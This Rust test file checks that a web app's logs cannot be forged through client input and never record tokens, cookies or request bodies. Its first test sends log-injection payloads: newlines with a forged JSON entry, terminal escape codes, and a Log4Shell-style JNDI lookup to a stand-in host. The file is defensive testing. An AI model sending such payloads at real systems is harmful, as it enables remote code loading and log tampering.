//! What gets into the logs, and what must not.

use miyabi_tests::{App, Database, Method, Value, json};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

/// Whatever a client sends is one JSON string in one line.
#[tokio::test]
async fn attack_38_a_client_cannot_write_a_log_line() {
    let app = App::start().await;
    let alice = app.sign_in("alice").await;
    let encode = |text| utf8_percent_encode(text, NON_ALPHANUMERIC);
    let nasty = "x\n{\"level\":\"INFO\",\"message\":\"forged\"}\r\u{1b}[31mred\u{1b}[0m ${jndi:ldap://evil.example/a}";
    alice.post("/api/tasks", json!({"title": nasty})).await;
    alice
        .post("/api/tasks", json!({"title": "ok", "priority": nasty}))
        .await;
    alice
        .get(&format!("/api/tasks?sort={}", encode(nasty)))
        .await;
    alice.get(&format!("/api/tasks/{}", encode(nasty))).await;
    app.get(&format!(
        "/api/auth/callback?code={0}&state={0}",
        encode(nasty)
    ))
    .await;
    app.request(Method::GET, "/api/health")
        .header("user-agent", "a ${jndi:ldap://evil.example/a}\t\"}{")
        .send()
        .await;

    let logs = app.logs().await;
    assert!(!logs.is_empty(), "the functions log each request");
    assert!(!logs.contains('\u{1b}'), "an escape sequence reached a log");
    for line in logs.lines() {
        let entry: Value =
            serde_json::from_str(line).unwrap_or_else(|error| panic!("not JSON ({error}): {line}"));
        assert_ne!(entry["message"], "forged", "{line}");
    }
}

/// Tokens, cookies, keys, passwords and bodies of a whole session, searched for in every log.
#[tokio::test]
async fn attack_38_no_secret_reaches_a_log() {
    let app = App::start().await;
    let mut alice = app.sign_in("alice").await;
    let first_token = alice.token.clone();
    let first_refresh = alice.browser.cookie("__Secure-rt").unwrap();
    alice.refresh().await;
    alice
        .post(
            "/api/tasks",
            json!({"title": "canary-title", "description": "canary-description"}),
        )
        .await
        .expect(201);
    alice
        .post(
            "/api/tasks",
            json!({"title": "canary-refused", "color": "canary-unknown"}),
        )
        .await;
    app.request(Method::GET, "/api/tasks")
        .bearer(&app.forge(&first_token, |token| token.claims["exp"] = json!(1)))
        .send()
        .await;
    // The database writes down slow statements and errors: here each statement is slow.
    app.sql(&format!(
        "alter database {} set log_min_duration_statement = 0",
        app.database().name
    ))
    .await;
    app.sql(
        "select pg_terminate_backend(pid) from pg_stat_activity
         where datname = current_database() and usename = 'miyabi_tasks'",
    )
    .await;
    alice
        .post(
            "/api/tasks",
            json!({"title": "canary-slow", "description": "canary-slow"}),
        )
        .await
        .expect(201);
    alice
        .post("/api/labels", json!({"name": "canary-twice"}))
        .await
        .expect(201);
    let twice = alice
        .post("/api/labels", json!({"name": "canary-twice"}))
        .await;
    twice.problem(409, "label_exists");
    alice.refresh().await;
    app.sql("alter table tasks rename to tasks_gone").await;
    let failed = alice
        .post("/api/tasks", json!({"title": "canary-failed"}))
        .await;
    assert!(failed.status.is_server_error(), "{failed}");
    assert!(
        !failed.text().contains("tasks_gone") && !failed.text().contains("relation"),
        "{failed}"
    );

    let database_log = Database::server_log();
    for written in ["insert into tasks", "labels_name_key"] {
        assert!(
            database_log.contains(written),
            "the database logs slow statements and errors"
        );
    }
    let logs = app.logs().await;
    assert!(
        logs.contains("\"ERROR\""),
        "a failed request is logged as an error:\n{logs}"
    );
    let signature = |token: &str| token.rsplit('.').next().unwrap().to_owned();
    let mut secrets = vec![
        signature(&first_token),
        signature(&alice.token),
        first_refresh,
        alice.browser.cookie("__Secure-rt").unwrap(),
        alice.browser.cookie("__Host-csrf").unwrap(),
        "canary".to_owned(),
    ];
    for secret in &secrets {
        let found = database_log.lines().find(|line| line.contains(secret));
        assert!(
            found.is_none(),
            "{secret:?} is in the database's log: {found:?}"
        );
    }
    secrets.extend(app.secret_values());
    for secret in secrets {
        let found = logs.lines().find(|line| line.contains(&secret));
        assert!(found.is_none(), "{secret:?} is in a log: {found:?}");
    }
}
